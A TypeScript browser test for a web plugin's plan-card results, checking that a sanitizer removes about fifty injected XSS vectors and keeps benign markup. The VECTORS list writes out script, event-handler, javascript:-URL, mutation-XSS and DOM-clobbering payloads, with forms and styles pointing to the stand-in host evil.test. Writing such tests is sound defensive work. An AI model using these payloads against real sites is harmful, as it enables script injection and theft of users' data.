import type { Page } from 'playwright-core';
import { card, category, found, kind, offers, openPlans } from '../../browser/plans/plans.ts';
import { rest } from '../../browser/rest.ts';

jest.setTimeout(90_000);

const RUN = 'window.ran=(window.ran||0)+1';

/** Each entry tries to run code, send data to another host, or imitate a part of the page. */
const VECTORS: readonly string[] = [
	`<script>${RUN}</script>`,
	`<img src=x onerror="${RUN}">`,
	`<svg onload="${RUN}"></svg>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
	`<svg><set attributeName="href" to="javascript:${RUN}"></svg>`,
	`<svg><a href="javascript:${RUN}"><text y=20>go</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload='${RUN}'/>#x"></use></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
	`<math href="javascript:${RUN}">x</math>`,
	`<iframe src="javascript:parent.${RUN}"></iframe>`,
	`<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
	`<object data="javascript:${RUN}"></object>`,
	`<embed src="javascript:${RUN}">`,
	`<a class="try" href="javascript:${RUN}">go</a>`,
	`<a class="try" href="JaVaScRiPt&colon;${RUN}">go</a>`,
	`<a class="try" href=" &#1;javascript:${RUN}">go</a>`,
	`<a class="try" href="java&Tab;script:${RUN}">go</a>`,
	`<a class="try" href="data:text/html,<script>${RUN}</script>">go</a>`,
	`<a class="try" href="vbscript:${RUN}">go</a>`,
	`<body onload="${RUN}">`,
	`<details open ontoggle="${RUN}"><summary>x</summary></details>`,
	`<video><source onerror="${RUN}"></video>`,
	`<audio src=x onerror="${RUN}"></audio>`,
	`<input autofocus onfocus="${RUN}">`,
	`<input type="image" src=x onerror="${RUN}">`,
	`<select autofocus onfocus="${RUN}"></select>`,
	`<textarea autofocus onfocus="${RUN}"></textarea>`,
	`<marquee onstart="${RUN}">x</marquee>`,
	`<style>@import url("javascript:${RUN}");</style>`,
	`<link rel="stylesheet" href="data:text/css,*{}"><base href="https://evil.test/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
	`<template><img src=x onerror="${RUN}"></template>`,
	`<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`,
	`<form action="https://evil.test/" method="post"><button>go</button></form>`,
	`<form action="javascript:${RUN}" method="post"><button class="try">go</button></form>`,
	`<form method="get" action="/pages/plans-own.html"><input type="hidden" name="plan_id" value="1"><button>go</button></form>`,
	`<form method="post" action="/pages/"><button formaction="javascript:${RUN}">go</button></form>`,
	`<button popovertarget="content" command="show-modal" commandfor="content" onclick="${RUN}" class="try">go</button>`,
	`<div data-wp-interactive="x" data-wp-init="callbacks.run" data-wp-on--click="x">x</div>`,
	`<div data-gazetteer="contact-form" id="gazetteer-config">{"ajax":"https://evil.test/"}</div>`,
	`<a id="history" name="getElementById">x</a><img name="body"><form name="scripts" method="post"></form>`,
	`<p style="position:fixed;inset:0;background:url(data:image/svg+xml,evil)">x</p>`,
	`<h3 class="gz-plan-title" style="--gz-plan-colour:url(//192.0.2.1/7)">x</h3>`,
	`<svg><path fill="url(https://evil.test/a.svg#b)" d="M0 0h9v9"></path></svg>`,
	`<div contenteditable onbeforeinput="${RUN}" autofocus onfocus="${RUN}">x</div>`,
	`<x-element onclick="${RUN}" class="try">x</x-element>`,
	`<p class="try" onclick="${RUN}" onpointerenter="${RUN}">x</p>`,
	`<img src="x" srcset="x 1x" sizes="1px" onload="${RUN}" onerror="${RUN}">`,
	`<!--<img src="--><img src=x onerror="${RUN}//">`,
	`<title><a href="</title><img src=x onerror=${RUN}>">`,
];

const html = `<div class="gz-plan-cards">${card(60, 'Kept')}${VECTORS.join('\n')}${card(61, 'Kept as well')}</div>`;

interface Seen {
	ran?: number;
	violations: string[];
}

const watch = (page: Page) =>
	page.addInitScript(() => {
		const violations: string[] = [];
		Object.assign(window, { violations });
		document.addEventListener('securitypolicyviolation', (event) =>
			violations.push(`${event.violatedDirective} ${event.sample}`),
		);
	});

const seen = (page: Page) =>
	page.evaluate(() => {
		const { ran = 0, violations } = window as unknown as Seen;
		return { ran, violations };
	});

/** Returns the forbidden elements and attributes that the plan results still contain. */
const left = (page: Page) =>
	page.locator('.gz-plan-results').evaluate((results) => {
		const slipped: string[] = [];
		const bad =
			'script,style,link,meta,base,iframe,object,embed,template,math,foreignObject,use,video,audio,select,textarea,[srcdoc],[formaction],[contenteditable],[popovertarget],form:not([method="post"])';
		for (const one of results.querySelectorAll(bad)) slipped.push(one.outerHTML);
		for (const one of results.querySelectorAll('*'))
			for (const { name, value } of one.attributes)
				if (
					/^(on|data-)/.test(name) ||
					/^\s*(javascript|data|vbscript):/i.test(value) ||
					// A link to another host is allowed, because a form to another host is replaced
					// by a link.
					(/evil/.test(value) && !(name === 'href' && one.localName === 'a'))
				)
					slipped.push(`${one.tagName} ${name}=${value}`);
		return slipped;
	});

/** Hovers, focuses and clicks everything that is still present. */
const tryAll = async (page: Page) => {
	for (const one of await page.locator('.gz-plan-results .try').all()) {
		await one.dispatchEvent('pointerenter');
		await one.evaluate((it: HTMLElement) => {
			it.focus();
			it.addEventListener('click', (event) => event.preventDefault());
			it.click();
		});
	}
};

it.each<[string, string, number]>([
	['a page without a policy', 'plans-own.html', 0],
	['a page with a policy that allows ours', 'plans-strict.html', 0],
	['a page with a policy that allows no other policy', 'plans-no-policy.html', 1],
])(
	'none of fifty attacks in the markup of plan cards succeeds on %s',
	async (_says, path, refused) => {
		const foreign: string[] = [];
		const { page, errors } = await openPlans(path, {
			replies: () => found(html, { switcher: '1' }),
			before: async (fresh) => {
				await watch(fresh);
				fresh.on('request', (request) => {
					if (/evil|192\.0\.2\.1/.test(request.url())) foreign.push(request.url());
				});
			},
		});
		await kind(page, 'exclusive').click();
		await category(page, 'Cafés').check();
		await offers(page, 'Kept as well');
		await tryAll(page);
		await rest(page);

		expect(VECTORS.length).toBeGreaterThanOrEqual(50);
		expect(await left(page)).toEqual([]);
		const { ran, violations } = await seen(page);
		expect(ran).toBe(0);
		// The browser reports the refused Trusted Types policy, and the parser reports each
		// inline event handler.
		const types = violations.filter((one) => /trusted-types/.test(one));
		expect(types.filter((one) => !one.startsWith('trusted-types'))).toEqual([]);
		expect(types).toHaveLength(refused);
		expect(foreign).toEqual([]);
		// Policy violations and missing images also appear as console errors, so ignore them.
		const told = /policy|style|trusted|Failed to load|\/pages\/x/i;
		expect(errors.filter((one) => !told.test(one))).toEqual([]);
		expect(
			await page.evaluate(() => document.getElementById('gazetteer-config')?.localName ?? ''),
		).not.toBe('div');
		expect(await page.evaluate(() => typeof history.pushState)).toBe('function');
	},
);

const BENIGN = [
	card(70, 'Plain'),
	'<p class="a b" id="plan-note" lang="en" dir="ltr">Text with <strong>weight</strong>, <a href="/terms/">a link</a> and <a href="mailto:a@example.org">a letter</a>.</p>',
	'<svg class="gz-plan-icon" viewBox="0 0 24 24" width="20" height="20" aria-hidden="true" focusable="false"><path d="m5 12.5 4.5 4.5L19 7.5"></path></svg>',
	'<div class="gz-plan-scroll" role="region" aria-label="Compare" tabindex="0"><table><thead><tr><th scope="col">Plan</th></tr></thead><tbody><tr><td colspan="2">Yes</td></tr></tbody></table></div>',
	'<details open=""><summary>More</summary><ul><li>One</li></ul></details>',
	'<h3 class="gz-plan-title" style="color:#1f6f8b">Coloured</h3>',
	'<div style="--gz-across:3">Three</div>',
	'<div class="lp-price-main" style="background-image: url(&quot;http://127.0.0.1:9/a.jpg&quot;);">Pictured</div>',
	'<form method="post" action="/pages/plans-submit.html" class="price-plan-button"><input type="hidden" name="action" value="buy"><input type="hidden" name="id" value="7"><button name="title" value="a1">Buy</button></form>',
	'<form method="post" action="/pages/plans-submit.html" class="price-plan-button"><input type="hidden" name="price_nonce_field7" value="a1"><input type="submit" value="Continue"></form>',
];

it.each(BENIGN.map((one) => [one]))('allowed markup of a plan card is kept: %s', async (markup) => {
	const { page } = await openPlans('plans-own.html', {
		replies: () => found(`<div class="it">${markup}</div>`, { switcher: '1' }),
	});
	await kind(page, 'exclusive').click();
	await category(page, 'Cafés').check();
	await page.locator('.it').waitFor({ state: 'attached' });
	const plain = (text: string) =>
		text.replaceAll('<input type="hidden" name="lp_pre_selected_cats" value="7">', '');
	expect(plain(await page.locator('.it').innerHTML())).toBe(markup);
});
